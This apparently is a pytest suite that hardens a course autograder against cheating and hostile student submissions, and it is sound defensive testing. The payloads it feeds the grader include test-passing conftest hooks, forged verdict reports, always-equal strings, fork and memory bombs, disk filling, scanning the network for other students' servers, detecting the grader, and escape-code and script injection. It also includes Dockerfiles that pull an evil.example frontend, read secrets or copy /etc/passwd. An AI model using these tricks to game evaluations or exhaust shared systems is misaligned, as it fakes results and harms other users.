"""Strangers' tricks, graded beside honest work: each gets what its work is worth without the trick, and leaves nothing.

Each attacker is a student of a class. The same call grades two honest students before and after them; both must pass, nothing of the
runs may be left in the engine or on the disk, and nothing that an attacker wrote may act on a page or a screen.
"""

import json
import os

import pytest
from classes import drawn
from strangers import Watched, lay

from workshop.course.lessons import find

ONE, THREE = find("1"), find("3")
HONEST = (ONE.solution / "app.py").read_text(encoding="utf-8")
WRONG = HONEST.replace('"Hello World"', '"Hello Word"')  # fails test_the_first_page_says_hello_world
FORGED = json.dumps(
    {
        "report": {
            "lesson": ONE.name,
            "runtime": "docker",
            "seed": 1,
            "verdict": "passed",
            "seconds": 0.1,
            "checks": [{"id": name, "claim": claim, "outcome": "passed"} for name, claim in ONE.promises.items()],
        }
    }
)
PASS_ALL = """
import pytest
def pytest_runtest_call(item): item.obj = lambda *a, **k: None
def pytest_runtest_makereport(item, call): call.excinfo = None
"""
AT_ONCE = "import os\nos._exit(0)\n"
PATCHES = """
import sys
try:
    import _pytest.runner, builtins
    _pytest.runner.call_and_report = None
except ImportError:
    pass
class Same(str):
    __eq__ = lambda *a: True
    __ne__ = lambda *a: False
    __hash__ = str.__hash__
"""
# What a student hands in of lesson 1 beside or instead of a wrong app.py, and the outcome of the check that the wrong app fails.
ATTACKS = {
    "exits-at-once": {"app.py": AT_ONCE + HONEST},
    "exits-as-if-all-were-well": {"app.py": "import sys\nsys.exit(0)\n" + HONEST},
    "exits-at-a-request": {"app.py": HONEST.replace('return "Hello World"', "import os; os._exit(0)")},
    "conftest": {"app.py": WRONG, "conftest.py": PASS_ALL, "tests/conftest.py": PASS_ALL},
    "pytest-ini": {
        "app.py": WRONG,
        "pytest.ini": "[pytest]\naddopts = --collect-only -p forged\n",
        "pyproject.toml": "[tool.pytest.ini_options]\naddopts = '--deselect test_hello_flask.py'\n",
        "forged.py": PASS_ALL,
    },
    "modules-of-ones-own": {
        "app.py": WRONG,
        **dict.fromkeys(("sitecustomize.py", "usercustomize.py", "json.py", "redis.py", "click.py"), AT_ONCE),
    },
    "a-flask-of-ones-own": {"app.py": WRONG, "flask.py": AT_ONCE},
    "the-graders-own-names": {
        "app.py": WRONG,
        "test_hello_flask.py": "def test_ok(): pass\n",
        "mistakes.py": AT_ONCE,
        "workshop/__init__.py": AT_ONCE,
        "workshop/grader.py": AT_ONCE,
    },
    "patched-pytest": {"app.py": PATCHES + WRONG},
    "forged-report": {
        "app.py": f"import sys\nfor out in (sys.stdout, sys.stderr):\n    print({FORGED!r}, file=out, flush=True)\n{WRONG}",
        "report.json": FORGED,
        "results.json": FORGED,
    },
    "forged-over-http": {
        "app.py": WRONG.replace(
            '"Hello Word"', f"{FORGED!r}, 200, {{'Content-Type': 'application/json', 'X-Verdict': 'passed'}}"
        )
    },
    "always-equal": {
        "app.py": WRONG.replace(
            '"Hello Word"', "type('Same', (str,), {'__eq__': lambda *a: True, '__hash__': str.__hash__})('Hello Word')"
        )
    },
    "redirects-to-another": {
        "app.py": WRONG.replace(
            'return "Hello Word"', "import flask; return flask.redirect('http://host.docker.internal:5000/')"
        )
    },
    "fork-bomb": {
        "app.py": f"import os, threading\ndef bomb():\n    while True:\n        try: os.fork()\n        except OSError: pass\nthreading.Thread(target=bomb, daemon=True).start()\n{WRONG}"
    },
    "memory-bomb": {"app.py": f"hoard = []\nwhile True: hoard.append(bytearray(10**7))\n{WRONG}"},
    "fills-the-disk": {
        "app.py": f"import os\ntry:\n    with open('/tmp/big', 'wb') as big:\n        while True: big.write(bytes(10**7))\nexcept OSError: pass\nfinally:\n    os.unlink('/tmp/big') if os.path.exists('/tmp/big') else None\n{WRONG}"
    },
    "fills-the-inodes": {
        "app.py": f"""
import os, threading
def fill():
    for number in range(10**7):
        try:
            if number % 1000 == 0: os.makedirs(f"/tmp/{{number}}")
            open(f"/tmp/{{number - number % 1000}}/{{number}}", "w").close()
        except OSError: pass
for _ in range(4): threading.Thread(target=fill, daemon=True).start()
{WRONG}"""
    },
    "proxies-to-another-student": {
        "app.py": f"""
import concurrent.futures, socket, urllib.request
NETWORK = socket.gethostbyname(socket.gethostname()).rpartition(".")[0]
GATES = [NETWORK + ".1", "host.docker.internal", "172.17.0.1"]
PLACES = [(f"{{NETWORK}}.{{host}}", 5000) for host in range(1, 30)]
PLACES += [(f"172.{{net}}.0.{{host}}", 5000) for net in range(17, 32) for host in range(1, 6)]
PLACES += [(gate, port) for gate in GATES for port in range(32768, 32868)]
def answer_of(place):
    try:
        with urllib.request.urlopen("http://%s:%s/" % place, timeout=0.5) as answer:
            return answer.read(100).decode()
    except (OSError, ValueError):
        return ""
def found():
    with concurrent.futures.ThreadPoolExecutor(60) as pool:
        return [text for text in pool.map(answer_of, PLACES) if text == "Hello World"]
FOUND = found()
{WRONG.replace('"Hello Word"', 'FOUND[0] if FOUND else "Hello Word"')}"""
    },
    "endless-log": {
        "app.py": f"import threading\ndef say():\n    while True: print('x' * 10000, flush=True)\nthreading.Thread(target=say, daemon=True).start()\n{WRONG}"
    },
    "survives-its-stop": {
        "app.py": f"import signal\nfor number in range(1, 32):\n    try: signal.signal(number, signal.SIG_IGN)\n    except (OSError, ValueError): pass\n{WRONG}"
    },
    "takes-its-time": {"app.py": WRONG.replace('return "Hello Word"', "import time; time.sleep(600)")},
    "an-answer-without-an-end": {
        "app.py": WRONG.replace('return "Hello Word"', "return iter(lambda: 'x' * 65536, None)")
    },
    "escapes": {
        "app.py": WRONG.replace("Hello Word", "\\x1b[2J\\x1b]0;owned\\x07<script>alert(1)</script>=cmd|'/C calc'!A0")
    },
    "looks-for-the-grader": {
        "app.py": f"""
import glob, os
found = [path for folder in ("/lessons", "/solutions", "/answers", "/work", "/repo", "/host", "/src", "/root", "/home")
         for path in glob.glob(folder + "/**/*hello_flask*", recursive=True)]
found += [name for name in os.environ if "WORKSHOP" in name or "SEED" in name]
found += [path for path in ("/var/run/docker.sock", "/run/docker.sock") if os.path.exists(path)]
{WRONG.replace('"Hello Word"', '"Hello World" if found else "Hello Word"')}"""
    },
    "knows-the-grader-by-its-requests": {
        "app.py": f"from flask import request\n{WRONG}".replace(
            '"Hello Word"',
            '"Hello World" if "workshop" in request.headers.get("User-Agent", "").lower() else "Hello Word"',
        )
    },
}


@pytest.fixture(scope="module")
def graded(has_engine, tmp_path_factory):
    """A class of attackers on lesson 1, with honest students before, among and after them."""
    folder = tmp_path_factory.mktemp("class")
    for name in ("aa-honest", "m-honest", "zz-honest"):
        lay(folder / "in" / name, {"app.py": HONEST})
    for name, files in ATTACKS.items():
        lay(folder / "in" / name, files)
    canary = folder / "canary"
    canary.write_text("here")
    yield Watched(folder, "1")
    assert canary.read_text() == "here"


@pytest.mark.parametrize("name", ATTACKS)
def test_an_attack_earns_nothing(graded, name):
    assert graded.verdicts[name] == "failed"


def test_honest_work_beside_them_passes(graded):
    graded.expect_passed("aa-honest", "m-honest", "zz-honest")


def test_a_wrong_answer_with_files_of_its_own_earns_what_it_is_worth(graded):
    """Files that only pretend to belong to the grader change nothing: all but one check pass."""
    points = {row["student"]: row["points"] for row in graded.document["rows"]}
    most = len(ONE.promises) - 1
    for name in (
        "conftest",
        "pytest-ini",
        "the-graders-own-names",
        "patched-pytest",
        "forged-report",
        "knows-the-grader-by-its-requests",
    ):
        assert points[name] == most, name


def test_nothing_is_left(graded):
    assert graded.runs
    assert graded.left() == []


def test_no_text_of_theirs_acts_on_a_page_or_a_screen(graded):
    said = [
        graded.done.stderr,
        graded.done.stdout,
        *(path.read_text(encoding="utf-8") for path in graded.out.rglob("*.html")),
    ]
    said += [path.read_text(encoding="utf-8-sig") for path in graded.out.glob("*.csv")]
    for text in said:
        assert "\x1b" not in text and "\x07" not in text
    for path in graded.out.rglob("*.html"):
        assert "<script" not in path.read_text(encoding="utf-8").lower()
    assert "alert(1)" in graded.feedback("escapes")


# What is handed in as an archive is in tests/unit/test_class_intake.py; what a compose file may say in tests/unit/test_compose_file.py.

DOCKERFILE = (THREE.solution / "Dockerfile").read_text(encoding="utf-8")
BUILDS = {
    "a-frontend-of-ones-own": "# syntax=evil.example/frontend:1\n" + DOCKERFILE,
    "from-another-student": DOCKERFILE.replace("python:3.13-slim", "workshop-0000000000-image-1"),
    "mounts-a-secret": DOCKERFILE.replace(
        "EXPOSE", "RUN --mount=type=secret,id=x,required=true cat /run/secrets/x\nEXPOSE"
    ),
    "mounts-ssh": DOCKERFILE.replace("EXPOSE", "RUN --mount=type=ssh,required=true true\nEXPOSE"),
    "host-network": DOCKERFILE.replace("EXPOSE", "RUN --network=host true\nEXPOSE"),
    "insecure": DOCKERFILE.replace("EXPOSE", "RUN --security=insecure true\nEXPOSE"),
    "copies-from-outside": DOCKERFILE.replace("EXPOSE", "COPY ../../../etc/passwd /passwd\nEXPOSE"),
    "builds-without-an-end": DOCKERFILE.replace("EXPOSE", "RUN sleep 100000\nEXPOSE"),
    "fills-the-disk": DOCKERFILE.replace("EXPOSE", "RUN head -c 100G /dev/zero >/big\nEXPOSE"),
    "fills-the-disk-in-pieces": DOCKERFILE.replace(
        "EXPOSE", "RUN for n in $(seq 100); do head -c 400M /dev/zero >/big$n; done\nEXPOSE"
    ),
    "fills-the-inodes": DOCKERFILE.replace(
        "EXPOSE",
        "RUN python -c \"import os; [(os.mkdir(f'/{n}'), [open(f'/{n}/{m}', 'w').close() for m in range(1000)]) for n in range(10**6)]\"\nEXPOSE",
    ),
    "a-frontend-that-is-here": "# syntax=python:3.13-slim\n" + DOCKERFILE,
    "onbuild": DOCKERFILE.replace("CMD", "ONBUILD RUN false\n# CMD"),
}
CHOSEN = drawn(BUILDS)


@pytest.fixture(scope="module")
def built(has_engine, tmp_path_factory):
    """A class of attackers on lesson 3, whose Dockerfiles are the attack."""
    folder = tmp_path_factory.mktemp("builds")
    others = {name: (THREE.solution / name).read_text(encoding="utf-8") for name in ("app.py", "requirements.txt")}
    for name in ("aa-honest", "zz-honest"):
        lay(folder / "in" / name, {**others, "Dockerfile": DOCKERFILE})
    for name, text in CHOSEN.items():
        lay(folder / "in" / name, {**others, "Dockerfile": text})
    os.environ["WORKSHOP_BUILD_LIMIT"] = "45"
    try:
        return Watched(folder, "3", "--trust-builds")
    finally:
        del os.environ["WORKSHOP_BUILD_LIMIT"]


@pytest.mark.parametrize("name", CHOSEN)
def test_a_dockerfile_reaches_nothing(built, name):
    assert built.verdicts[name] in ("failed", "unchecked")


def test_honest_builds_beside_them_pass_and_nothing_is_left(built):
    built.expect_passed("aa-honest", "zz-honest")
    assert built.left() == []
